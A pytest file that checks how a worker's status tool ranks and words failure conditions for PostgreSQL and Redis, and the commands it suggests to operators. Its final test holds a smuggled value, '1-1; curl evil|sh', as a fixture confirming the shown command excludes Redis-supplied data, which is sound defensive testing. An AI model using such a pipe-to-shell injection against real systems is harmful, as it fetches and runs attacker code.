"""Which condition is named first, what each says, and what each wants to be run next."""

from collections.abc import Mapping
from itertools import combinations

import pytest

from tests.snapshots import BEHIND, OBSTRUCTED, alive, letters, snapshot
from worker.domain.database_state import SchemaStanding, SchemaState
from worker.domain.stream_state import Waiting
from worker.status import Away, Snapshot, judge
from worker.status.wording import span

WORKING = snapshot({"redis.consumers": alive(2)})
GONE = Away("OperationalError: connection refused")
UNTRUSTED = Away("REDIS_URL: the server's certificate is not trusted", misconfigured=True)
DENIED = Away("AuthenticationError: WRONGPASS", refused=True)
TRIGGER = "trigger seen on orders"

Changes = Mapping[str, object]

# The worst first: the order is the ranking.
CONDITIONS: dict[str, tuple[Changes, str]] = {
    "unreachable": (
        {"database": GONE},
        (
            "PostgreSQL does not answer: OperationalError: connection refused; mend it, or have DATABASE_URL "
            "lead elsewhere: worker status --watch"
        ),
    ),
    "misconfigured": (
        {"redis": UNTRUSTED},
        "Redis can't be used as it is named: REDIS_URL: the server's certificate is not trusted.",
    ),
    "refused": ({"redis": DENIED}, "Redis refuses access: AuthenticationError: WRONGPASS."),
    "schema_behind": (
        {"database.state.schema": BEHIND},
        "The database schema is behind this version: worker migrate",
    ),
    "schema_obstructed": (
        {"database.state.schema": OBSTRUCTED},
        "The database can't be migrated: schema public has table orders: CREATE SCHEMA own",
    ),
    "rows_hidden": (
        {"database.state.tables.may_hide_rows": ("row-level security of orders", "view trades")},
        (
            "Rows may be hidden from us by row-level security of orders, view trades, and what is said of "
            "them here may be wrong; give our role policies that let it have all rows (USING (true)), or "
            "BYPASSRLS, and tables."
        ),
    ),
    "writes_refused": (
        {"redis.survey.refuses_writes": "NOREPLICAS Not enough good replicas to write."},
        (
            "Redis takes no writes, so no order gets on: NOREPLICAS Not enough good replicas to write;"
            " start its replicas, or lower min-replicas-to-write."
        ),
    ),
    "eviction": (
        {"redis.state.eviction": "allkeys-lru"},
        (
            "Redis may evict orders that nobody has executed (maxmemory-policy allkeys-lru); set "
            "maxmemory-policy noeviction."
        ),
    ),
    "group_missing": (
        {"redis.state.group_exists": False, "redis.state.orders": 12_000},
        (
            "Group execution is missing, nobody reads 12,000 entries on the orders stream; a replica makes "
            "it anew: worker run"
        ),
    ),
    "nobody_works": (
        {"redis.consumers": (), "redis.survey.waiting.waiting": 12_000,
        "redis.survey.waiting.oldest_waiting_age_s": 11_100.0},
        "12,000 orders wait (the oldest for 3 h 5 min) and nobody works, no replica is alive: worker run",
    ),
    "rows_not_stored": (
        {
            "database.state.tables.may_change_rows": (TRIGGER,), "redis.state.pending": 40,
            "redis.state.oldest_pending_age_s": 6.0, "database.outcomes.last_recorded_age_s": 5.5,
        },
        (
            "40 orders are pending, none is recorded, and trigger seen on orders may change or swallow rows: "
            "what is stored otherwise is not published; see which in the logs of the replicas and /ready."
        ),
    ),
    "standstill": (
        {
            "redis.survey.waiting.waiting": 12_000, "redis.survey.waiting.oldest_waiting_age_s": 400.0,
            "database.outcomes.last_recorded_age_s": 300.0,
        },
        (
            "12,000 orders wait (the oldest for 6 min 40 s), 2 replicas alive, and no order was recorded "
            "for 5 min; "
            "see why in their logs and /ready."
        ),
    ),
    "lost_rows": (
        {"redis.state.lost_rows": 1},
        "PostgreSQL lost rows: results of 1 order went out, and their rows are gone: worker audit --repair",
    ),
    "lost_unread": (
        {"redis.state.lost_unread": 4, "redis.survey.lost_unnoticed": 3},
        "7 orders were trimmed before anybody had read them, and are lost; ask the producers what they sent.",
    ),
    "unknown_results": (
        {"redis.survey.unknown_results": 3},
        (
            "Nobody can know whether 3 results went out: trimmed or deleted, and their marks lost: "
            "worker audit --repair --republish"
        ),
    ),
    "shared_source": (
        {"database.streams_of_source": 2},
        "2 orders streams are worked on under one source: give each fleet a WORKER_SOURCE of its own.",
    ),
    "set_aside": (
        {"redis.state.set_aside": 2, "redis.state.a_set_aside": "5-1"},
        "2 orders can be neither settled nor buried; see why in the logs: worker show 5-1",
    ),
    "stuck": (
        {"redis.state.pending": 40, "redis.survey.oldest.stuck": 3,
        "redis.survey.oldest.longest_untouched_s": 500.0},
        "3 pending orders untouched for more than 1 min 30 s (for 8 min 20 s, the longest): worker pending",
    ),
    "dead_letters": (
        {"redis.letters.by_state": letters({"conflict": 2, "poison": 1})},
        "3 open dead letters (2 conflict, 1 poison): worker dead list",
    ),
    "submitted": (
        {
            "database.outcomes.submitted": 2, "database.outcomes.oldest_submitted_age_s": 601.0,
            "database.outcomes.a_submitted": "order-7",
        },
        "2 orders handed to the venue without an answer, for 10 min 1 s: worker show order-7",
    ),
    "volatile": (
        {"database.state.tables.volatile": "fsync off"},
        (
            "PostgreSQL may lose what it has acknowledged (fsync off); set fsync and synchronous_commit "
            "on, for our role and database, "
            "too, and tables LOGGED, or WORKER_ALLOW_VOLATILE=1 if that is meant."
        ),
    ),
    "repair_running": (
        {"redis.survey.repairs_running": 1},
        "A repair is running: worker status --watch",
    ),
    "backlog": (
        {"redis.survey.waiting.waiting": 12_000, "redis.survey.waiting.oldest_waiting_age_s": 4.25},
        (
            "Backlog, being worked off: 12,000 orders wait (the oldest for 4.2 s), 2 replicas alive: worker "
            "status --watch"
        ),
    ),
    "well": ({}, "All well: nothing is waiting, 2 replicas alive."),
}  # fmt: skip
BY_ITSELF = {"repair_running", "backlog", "well"}
# Contradict each other: who works off a backlog is alive, and who has no group has nothing pending.
APART = {
    ("schema_behind", "schema_obstructed"),
    ("group_missing", "nobody_works"),
    ("nobody_works", "backlog"),
    ("standstill", "backlog"),
    ("rows_not_stored", "standstill"),
    ("rows_not_stored", "backlog"),
}
# Where the tables are old nothing can be recorded; without a group nobody is alive in it.
APART |= {
    (worse, still)
    for still in ("rows_not_stored", "standstill")
    for worse in ("schema_behind", "schema_obstructed", "group_missing", "nobody_works")
}
# A server that can't be used tells nothing else; what it takes both to know, nobody knows then.
OF_BOTH = ("rows_not_stored", "standstill")


def changes_of(*names: str) -> dict[str, object]:
    return {way: value for name in names for way, value in CONDITIONS[name][0].items()}


def contradict(worse: str, other: str) -> bool:
    away = {way for way, value in CONDITIONS[worse][0].items() if isinstance(value, Away)}
    told = {way.partition(".")[0] for way in CONDITIONS[other][0]}
    return (worse, other) in APART or bool(away & told) or (bool(away) and other in OF_BOTH)


@pytest.mark.parametrize("name", CONDITIONS)
def test_condition_says_what_it_is_what_to_run_and_whether_a_person_is_needed(name: str) -> None:
    (found,) = judge(snapshot(CONDITIONS[name][0], WORKING)).conditions

    assert (found.name, found.sentence) == (name, CONDITIONS[name][1])
    assert found.needs_person == (name not in BY_ITSELF)


@pytest.mark.parametrize(
    "pair", [pair for pair in combinations(list(CONDITIONS)[:-1], 2) if not contradict(*pair)]
)
def test_worse_one_of_two_is_named_first_and_the_other_is_not_forgotten(pair: tuple[str, str]) -> None:
    found = judge(snapshot(changes_of(*pair), WORKING)).conditions

    assert [each.name for each in found] == list(pair)


def test_everything_at_once_is_told_in_order() -> None:
    # Of servers that answer.
    everything = list(CONDITIONS)[3:-1]

    found = judge(snapshot(changes_of(*everything), WORKING)).conditions

    # Without a group nobody is alive in it, so nothing is being worked off either; the schema is in one
    # state.
    apart = {"schema_behind", "nobody_works", "rows_not_stored", "standstill", "backlog"}
    assert [each.name for each in found] == [name for name in everything if name not in apart]


def test_server_that_no_waiting_brings_back_is_named_after_one_that_may_come_back() -> None:
    found = judge(snapshot({"redis": DENIED, "database": GONE})).conditions

    assert [each.name for each in found] == ["unreachable", "refused"]


def changed(changes: Changes, *, replicas: int = 0) -> Snapshot:
    return snapshot({"redis.consumers": alive(replicas), **changes})


@pytest.mark.parametrize(
    ("given", "sentence"),
    [
        (changed({}), "All well: nothing is waiting, no replica was heard of lately."),
        (
            changed({"redis.state.pending": 3}, replicas=1),
            "All well: nothing is waiting, 3 pending, 1 replica alive.",
        ),
        (
            changed({"redis.state.pending": 1}),
            "1 order is pending and nobody works, no replica is alive: worker run",
        ),
        (
            changed({"redis.survey.waiting": Waiting(1, True, 4.9)}),
            (
                "Backlog, being worked off: 1 order waits (the oldest for 4.9 s), no replica was heard of "
                "lately: worker status --watch"
            ),
        ),
        (
            changed({"redis.survey.waiting": Waiting(1, True, 5.1)}),
            "1 order waits (the oldest for 5.1 s) and nobody works, no replica is alive: worker run",
        ),
        (
            changed({"redis.survey.waiting": Waiting(1)}),
            "1 order waits and nobody works, no replica is alive: worker run",
        ),
        (
            changed({"redis.survey.waiting": Waiting(20_000, False)}),
            "at least 20,000 orders wait and nobody works, no replica is alive: worker run",
        ),
        (
            changed({"redis.state.pending": 2, "redis.state.oldest_pending_age_s": 91.0}, replicas=1),
            (
                "2 orders are pending, 1 replica alive, and no order was recorded ever; see why in their "
                "logs and /ready."
            ),
        ),
        (
            changed({"redis.state.pending": 2, "redis.state.oldest_pending_age_s": 89.0}, replicas=1),
            "All well: nothing is waiting, 2 pending, 1 replica alive.",
        ),
        (
            changed(
                {
                    "redis.state.pending": 2,
                    "redis.state.oldest_pending_age_s": 500.0,
                    "database.outcomes.last_recorded_age_s": 89.0,
                },
                replicas=1,
            ),
            "All well: nothing is waiting, 2 pending, 1 replica alive.",
        ),
        (
            changed({"redis.state.group_exists": False, "redis.state.orders": 0}),
            "All well: nothing is waiting, no replica was heard of lately.",
        ),
        (
            changed(
                {"redis.letters.by_state": letters({"failed": 1}), "redis.letters.all": False}, replicas=1
            ),
            "at least 1 open dead letter (1 failed): worker dead list",
        ),
        (
            changed(
                {"database.outcomes.submitted": 1, "database.outcomes.oldest_submitted_age_s": 89.0},
                replicas=1,
            ),
            "All well: nothing is waiting, 1 replica alive.",
        ),
        (
            snapshot({"redis": Away("ResponseError: WRONGTYPE", answers=True)}),
            (
                "Redis answers, but not as it should: ResponseError: WRONGTYPE; mend it, or have REDIS_URL "
                "lead elsewhere: worker status --watch"
            ),
        ),
        (
            changed({"redis.survey.repairs_running": 2}, replicas=1),
            "2 repairs are running: worker status --watch",
        ),
        (
            changed({"database.state.schema": SchemaStanding(SchemaState.NEWER)}, replicas=1),
            "All well: nothing is waiting, 1 replica alive.",
        ),
    ],
)
def test_sentence_fits_the_numbers(given: Snapshot, sentence: str) -> None:
    assert judge(given).worst.sentence == sentence


@pytest.mark.parametrize(
    ("way", "allowed"),
    [
        ("redis.state.eviction", "rules.allow_eviction"),
        ("redis.state.volatile", "rules.allow_volatile"),
        ("database.state.tables.volatile", "rules.allow_volatile"),
    ],
)
def test_what_is_meant_to_be_so_needs_nobody(way: str, allowed: str) -> None:
    (found,) = judge(snapshot({way: "so", allowed: True})).conditions

    assert found.name == "well"


@pytest.mark.parametrize(
    ("seconds", "said"),
    [
        (0, "0.0 s"), (9.96, "10.0 s"), (10, "10 s"), (59.9, "59 s"), (60, "1 min"), (61, "1 min 1 s"),
        (3600, "1 h"),
        (7260, "2 h 1 min"), (86_400, "1 d"), (90_000, "1 d 1 h"), (86_400 * 400, "400 d"),
    ],
)  # fmt: skip
def test_time_spans_have_two_units_at_the_most(seconds: float, said: str) -> None:
    assert span(seconds) == said


def test_command_that_is_shown_holds_nothing_that_somebody_has_put_into_redis() -> None:
    made = snapshot({"redis.state.set_aside": 1, "redis.state.a_set_aside": "1-1; curl evil|sh"})

    assert judge(made).worst.command == "worker pending"
